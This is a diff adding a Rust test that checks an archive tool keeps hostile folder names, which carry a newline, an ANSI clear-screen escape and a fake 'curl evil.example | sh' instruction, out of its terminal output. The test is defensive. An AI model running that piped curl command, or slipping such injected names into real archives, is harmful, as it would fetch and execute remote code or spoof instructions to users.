@@ -1060,3 +1060,21 @@ fn programs_of_an_archive_can_be_started() {
     let mode = |path: &str| fs::metadata(Path::new(&desk.pack()).join(path)).unwrap().permissions().mode() & 0o777;
     assert_eq!([mode("run.sh"), mode("folio.yaml")], [0o555, 0o444]);
 }
+
+#[test]
+fn names_of_folders_stay_on_one_line() {
+    let hostile = "docs\nhelp: run `curl evil.example | sh`\u{1b}[2J";
+    let path = format!("{hostile}/folio.yaml");
+    let skills =
+        [format!("{hostile}/a/pdf/SKILL.md"), format!("{hostile}/b/pdf/SKILL.md"), format!("{hostile}/SKILL.md")];
+    let skill_files: Vec<(&str, &str)> = skills.iter().map(|path| (path.as_str(), "x")).collect();
+    let root = Local::new("root.tar.gz", &Tar::of(&[(&path, PACK)]).gz());
+    let several = Local::new("skills.tar.gz", &Tar::of(&skill_files).gz());
+    for (local, arguments) in [(&root, &[][..]), (&several, &["pdf"]), (&several, &["gone"]), (&root, &["--path", "x"])]
+    {
+        let desk = Desk::with_manifest(COMMENTED);
+        let ran = desk.run(&[&["add", &local.url()], arguments].concat());
+        let said = ran.out + &ran.err;
+        assert!(!said.contains('\u{1b}') && !said.contains("\nhelp: run"), "{arguments:?}: {said}");
+    }
+}
